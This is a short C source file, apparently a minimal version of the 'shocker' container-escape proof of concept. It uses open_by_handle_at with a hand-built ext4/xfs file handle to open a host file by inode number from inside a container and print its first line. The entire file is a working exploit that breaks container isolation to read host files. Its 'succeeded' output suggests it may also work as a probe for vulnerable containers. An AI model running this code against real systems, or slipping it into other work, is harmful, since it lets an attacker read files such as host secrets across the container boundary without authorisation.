/*
 * shocker: reads a file of the host by its inode number, with open_by_handle_at(2), from whatever
 * mount of the same file system the container has. `shocker MOUNTED INODE` prints the file's first
 * line. Handles of ext4 and xfs are {u32 inode, u32 generation} of type 1 (FILEID_INO32_GEN), and a
 * generation of 0 is not checked. https://github.com/gabrtv/shocker
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

union handle {
	struct file_handle head;
	char room[sizeof(struct file_handle) + 8];
};

int main(int argc, char **argv)
{
	union handle h = { .head = { .handle_bytes = 8, .handle_type = 1 } };
	uint32_t id[2] = { 0, 0 };
	char text[256];
	ssize_t n;
	int mount, fd;

	if (argc != 3)
		return 2;
	id[0] = (uint32_t)strtoul(argv[2], NULL, 10);
	memcpy(h.head.f_handle, id, sizeof(id));
	mount = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (mount < 0) {
		perror(argv[1]);
		return 2;
	}
	fd = open_by_handle_at(mount, &h.head, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		printf("open_by_handle_at: %s\n", strerror(errno));
		return 1;
	}
	n = read(fd, text, sizeof(text) - 1);
	printf("open_by_handle_at: succeeded: %.*s\n", n > 0 ? (int)strcspn(text, "\n") : 0, text);
	return 0;
}
